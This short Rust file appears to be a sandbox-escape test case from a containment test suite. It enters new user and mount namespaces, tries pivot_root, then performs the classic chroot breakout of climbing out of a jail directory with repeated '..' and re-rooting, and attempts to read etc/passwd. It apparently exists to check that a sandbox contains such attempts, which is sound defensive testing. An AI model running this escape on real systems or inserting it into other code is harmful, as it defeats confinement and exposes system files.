// verdict: wrong-output · control: outside · takes another folder for its root and climbs out of it
mod kit;
use kit::*;

fn main() {
    // SAFETY: the texts outlive the calls.
    unsafe {
        unshare(0x1000_0000 | 0x2_0000);
        let here = c(".");
        if syscall(call(155, 41), here.as_ptr(), here.as_ptr()) == 0 {
            escaped("pivot_root");
        }
        if std::fs::create_dir("jail").is_ok() && chroot(c("jail").as_ptr()) == 0 {
            for _ in 0..64 {
                let _ = std::env::set_current_dir("..");
            }
            chroot(here.as_ptr());
            escaped("chroot");
            tries_to_read("etc/passwd");
        }
    }
}
